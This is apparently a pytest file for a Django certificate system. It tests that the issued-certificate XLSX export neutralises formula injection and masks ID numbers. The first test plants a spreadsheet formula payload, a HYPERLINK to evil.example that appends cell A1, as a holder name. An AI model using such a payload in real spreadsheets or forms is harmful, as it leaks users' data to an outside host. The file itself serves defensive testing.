"""Issue 10 §11: a holder's name that looks like a formula stays text in the 已发证书 export."""

import io

import pytest
from openpyxl import load_workbook

from tests.factories import PersonUserFactory
from zhuanji.certificates.exports import issued_xlsx
from zhuanji.certificates.models import Certificate

pytestmark = pytest.mark.django_db


def test_a_formula_in_a_name_is_not_live_in_the_export(issue):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    holder = PersonUserFactory(name=evil)  # registered before names were checked
    issue(holder=holder, specialty="-1+1")
    sheet = load_workbook(io.BytesIO(issued_xlsx(Certificate.objects.all()))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=False))
    name_cell = rows[0][4]
    assert name_cell.value == "'" + evil and name_cell.data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)


def test_the_export_masks_id_numbers_and_does_not_query_per_row(world, issue, login):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext
    from django.urls import reverse

    from zhuanji.audit.masking import mask_id_number
    from zhuanji.certificates.services import certificate_replace

    cert = issue()
    client = login(world.title_office_staff)

    def export():
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(reverse("certificates:issued_export"))
        return load_workbook(io.BytesIO(response.content)).active, len(ctx)

    _, one_row = export()
    certificate_replace(actor=world.title_office_staff, certificate=cert, reason="证书丢失补办", reissue=True)
    issue(holder=PersonUserFactory(), approval_document="新人社职字〔2025〕99号")
    sheet, three_rows = export()
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3 and three_rows == one_row
    assert all(row[5] and "*" in row[5] for row in rows)
    assert mask_id_number(cert.id_number) in [row[5] for row in rows]
    cells = [str(value) for row in rows for value in row]
    assert not any(cert.id_number in value for value in cells)
    # the void certificate names its successor (read through select_related, not per row)
    assert any(row[10] for row in rows)
